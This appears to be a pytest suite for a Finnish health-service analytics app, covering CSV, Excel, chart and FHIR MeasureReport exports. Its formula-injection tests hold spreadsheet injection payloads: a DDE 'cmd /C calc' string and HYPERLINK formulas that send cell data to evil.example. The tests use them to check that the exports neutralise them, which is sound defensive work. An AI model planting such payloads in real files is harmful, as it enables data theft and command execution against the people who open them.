"""Exports: CSV columns, Excel with the same numbers, charts, FHIR MeasureReport."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from sotekeskus.analytics.engine import Analytics
from sotekeskus.analytics.filters import AccessFilter
from sotekeskus.domain.indicators import ACCESS_FIELDS
from sotekeskus.ingest.fhir_measure_report import build_measure_report, period_range
from tests.web.conftest import TODAY


def norm(value: object) -> object:
    """Excel keeps 14.0 as 14: compare numbers as numbers, empty as None."""
    if value is None or value == "":
        return None
    try:
        return float(value)  # type: ignore[arg-type]
    except (TypeError, ValueError):
        return str(value)


Q = "month_from=2025-01&month_to=2025-03&service_area=medical"


@pytest.mark.parametrize("name,keys", [
    ("access_summary", ["month"]),
    ("access_report", ["month", "service_area", "professional_group"]),
    ("access_by_unit", ["month", "unit_id", "service_area", "professional_group"]),
])
def test_access_csv_and_xlsx_agree(client_for, name: str, keys: list[str]) -> None:
    c = client_for("leadership")
    r = c.get(f"/access/export/{name}.csv?{Q}")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(r.text)))
    header = rows[0]
    assert header[: len(keys)] == keys
    assert set(ACCESS_FIELDS) <= set(header)
    x = c.get(f"/access/export/{name}.xlsx?{Q}")
    assert x.status_code == 200
    ws = load_workbook(io.BytesIO(x.content)).active
    sheet = [[norm(v) for v in row] for row in ws.iter_rows(values_only=True)]
    assert sheet == [[norm(v) for v in row] for row in rows]


def test_situation_exports(client_for) -> None:
    c = client_for("leadership")
    for name, cols in (("waiting_summary", ["unit_id", "professional_group", "waiting",
                                            "past_deadline", "due_today", "due_within_7d"]),
                       ("contacts_by_channel", ["contact_mode", "contacts"]),
                       ("assessments_not_same_day", ["unit_id", "service_area", "contacts",
                                                     "not_assessed_same_day"])):
        r = c.get(f"/situation/export/{name}.csv?on={TODAY.isoformat()}")
        assert r.status_code == 200
        assert next(csv.reader(io.StringIO(r.text))) == cols


def test_person_level_export_columns(client_for) -> None:
    r = client_for("manager").get(f"/situation/export/waiting_list.csv?on={TODAY.isoformat()}")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows and list(rows[0]) == [
        "episode_id", "person_id", "unit_id", "service_area", "professional_group",
        "assessed_on", "days_waited", "legal_deadline", "days_to_deadline"]
    assert {r["unit_id"] for r in rows} == {"U1"}


def test_unknown_export_is_404(client_for) -> None:
    c = client_for("leadership")
    assert c.get("/access/export/nope.csv").status_code == 404
    assert c.get("/access/export/access_summary.pdf").status_code == 404


@pytest.mark.parametrize("fmt,media,magic", [("png", "image/png", b"\x89PNG"),
                                             ("svg", "image/svg+xml", b"<svg")])
def test_chart_downloads(client_for, fmt: str, media: str, magic: bytes) -> None:
    r = client_for("leadership").get(f"/access/chart/within.{fmt}?{Q}&download=1")
    assert r.status_code == 200 and r.headers["content-type"].startswith(media)
    assert r.content.startswith(magic)
    assert "attachment" in r.headers["content-disposition"]


def test_chart_marks_the_law_change(client_for) -> None:
    r = client_for("leadership").get("/access/chart/within.json?month_from=2024-10"
                                     "&month_to=2025-03")
    spec = json.dumps(r.json(), ensure_ascii=False)
    assert "Laki muuttuu" in spec and "1.1.2025" in spec


def test_monitoring_exports(client_for) -> None:
    c = client_for("leadership")
    r = c.get("/monitoring/export/monitoring.csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    remote = {row["period"]: row["target"] for row in rows
              if row["indicator"] == "remote-share" and row["target"]}
    assert remote == {"2022": "10.0", "2023": "25.0", "2024": "30.0", "2025": "45.0"}
    x = c.get("/monitoring/export/monitoring.xlsx")
    ws = load_workbook(io.BytesIO(x.content)).active
    assert ws.max_row == len(rows) + 1


def test_measure_report_validates_and_matches_summary(client_for, store_url: str) -> None:
    from fhir.resources.R4B.measurereport import MeasureReport

    c = client_for("leadership")
    r = c.get("/access/measure-report.json?indicator=within_7d_pct&period=2025-Q1"
              "&service_area=medical")
    assert r.status_code == 200 and r.headers["content-type"].startswith(
        "application/fhir+json")
    body = r.json()
    report = MeasureReport.model_validate(body)
    assert report.type == "summary" and report.status == "complete"
    assert str(report.period.start) == "2025-01-01" and str(report.period.end) == "2025-03-31"
    an = Analytics.open(store_url)
    expected = an.access_summary(AccessFilter(month_from="2025-01", month_to="2025-03",
                                              service_areas=("medical",)), by="quarter")
    assert len(expected) == 1
    group = body["group"][0]
    assert group["measureScore"]["value"] == expected[0]["within_7d_pct"]
    assert group["population"][0]["count"] == expected[0]["visits"]
    groups = {s["value"]["coding"][0]["code"]: s
              for s in group["stratifier"][1]["stratum"]}
    assert "physician" in groups and "nurse" in groups


def test_measure_report_rejects_bad_period(client_for) -> None:
    c = client_for("leadership")
    assert c.get("/access/measure-report.json?period=2025-13").status_code == 400
    assert c.get("/access/measure-report.json?period=2025-Q1&indicator=nope").status_code == 400


def test_measure_report_leaves_suppressed_figures_out() -> None:
    report = build_measure_report(
        "within_7d_pct", "2025-03", {"visits": "<5", "within_7d_pct": None},
        {"service_area": [("oral", {"visits": 12, "within_7d_pct": 50.0})]})
    body = json.loads(report.model_dump_json(exclude_none=True))
    assert "measureScore" not in body["group"][0] and "population" not in body["group"][0]
    assert body["group"][0]["stratifier"][0]["stratum"][0]["measureScore"]["value"] == 50.0
    assert period_range("2024-Q4") == (period_range("2024-10")[0], period_range("2024-12")[1])


# ---------------------------------------------------------------- formula injection (2.1)

EVIL = ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1"]


def test_csv_text_that_looks_like_a_formula_is_quoted_numbers_stay_numbers() -> None:
    from sotekeskus.spreadsheet import csv_cell, write_csv

    for text in EVIL:
        assert csv_cell(text) == "'" + text
    assert csv_cell("Keskusta - Pohjoinen") == "Keskusta - Pohjoinen"  # only the first char
    assert csv_cell("<5") == "<5"
    # by type: a negative number is a number, the string "-3" is text
    assert csv_cell(-3) == -3 and csv_cell(-2.5) == -2.5
    assert csv_cell("-3") == "'-3"
    assert csv_cell(None) == "" and csv_cell(float("nan")) == "" and csv_cell(float("inf")) == ""
    rows = list(csv.reader(io.StringIO(write_csv(["name", "days"], [[EVIL[0], -3]]))))
    assert rows == [["name", "days"], ["'" + EVIL[0], "-3"]]


def test_xlsx_never_holds_a_formula_and_stores_control_characters() -> None:
    from sotekeskus.spreadsheet import REPLACEMENT_CHAR, Sheet, write_xlsx

    bad = "U1\x00\x01\x0b\x1f name"
    data = write_xlsx([Sheet("t[1]:x", ["=name", "days"],
                             [[t, -3] for t in EVIL] + [[bad, 1.5], ["x" * 40000, None]])])
    ws = load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert ws["A1"].value == "=name" and ws["A1"].data_type == "s"
    assert [ws.cell(row=i + 2, column=1).value for i in range(len(EVIL))] == EVIL
    assert ws.cell(row=2, column=2).value == -3 and ws.cell(row=2, column=2).data_type == "n"
    assert ws.cell(row=len(EVIL) + 2, column=1).value == "U1" + REPLACEMENT_CHAR * 4 + " name"
    assert len(ws.cell(row=len(EVIL) + 3, column=1).value) == 32767
    assert ws.title == "t_1__x"


def test_exported_indicator_names_cannot_run_as_formulas(app, client_for) -> None:
    """An administrator's indicator name starting with '=' reaches both downloads inert."""
    from sotekeskus.store.monitoring import delete_indicator, save_indicator

    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ind = save_indicator(app.state.engine, code="evil-name", name_fi=name, name_sv=name,
                         name_en=name + "\x07", targets={"2025": 1})
    try:
        c = client_for("leadership")
        rows = list(csv.DictReader(io.StringIO(c.get("/monitoring/export/monitoring.csv").text)))
        mine = [r for r in rows if r["indicator"] == "evil-name"]
        assert mine and all(r["name"] == "'" + name for r in mine)
        for lang in ("fi", "en"):
            c.cookies.set("sotekeskus_lang", lang)
            x = c.get("/monitoring/export/monitoring.xlsx")
            assert x.status_code == 200
            ws = load_workbook(io.BytesIO(x.content)).active
            assert not [cell.coordinate for row in ws.iter_rows() for cell in row
                        if cell.data_type == "f"]
            names = [row[1] for row in ws.iter_rows(values_only=True) if row[0] == "evil-name"]
            assert names and names[0].startswith("=HYPERLINK")
    finally:
        delete_indicator(app.state.engine, ind.id)
